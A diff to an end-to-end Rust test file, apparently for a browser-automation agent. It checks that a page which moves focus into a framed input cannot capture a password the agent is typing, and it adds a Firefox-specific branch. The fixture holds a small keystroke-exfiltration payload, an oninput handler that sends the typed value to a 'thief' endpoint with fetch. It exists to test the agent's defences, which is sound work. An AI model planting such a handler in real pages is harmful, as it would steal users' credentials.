@@ -211,7 +211,11 @@ async fn a_secret_goes_where_it_may(app: App, agent: Agent) -> e2e::Result {
 }
 
 #[e2e::test]
-async fn typing_stops_where_the_page_moves_it(app: App, agent: Agent) -> e2e::Result {
+async fn typing_stops_where_the_page_moves_it(
+    app: App,
+    browser: Browser,
+    agent: Agent,
+) -> e2e::Result {
     let thief = Thief::start().await;
     let inner = page("<input autofocus aria-label=Note oninput=\"fetch('/got?' + value)\">");
     let frame = format!(
@@ -243,6 +247,16 @@ async fn typing_stops_where_the_page_moves_it(app: App, agent: Agent) -> e2e::Re
             .act("type {pw} into Password")
             .secret("pw", secret)
             .await;
+        if says == "would have gone to" {
+            let seen = "return [/Firefox/.test(navigator.userAgent), p.value]";
+            let seen = browser.execute(seen, Vec::new()).await?;
+            if seen.json()[0] == true {
+                // No page moves the focus into such a frame there: all of it stays here.
+                typed?;
+                assert_eq!(seen.json()[1], VALUE, "{what}");
+                continue;
+            }
+        }
         let error = typed.expect_err(what);
         assert_eq!(error.code(), Code::PolicyDenied, "{what}: {error:?}");
         assert!(error.message().contains(says), "{what}: {error:?}");
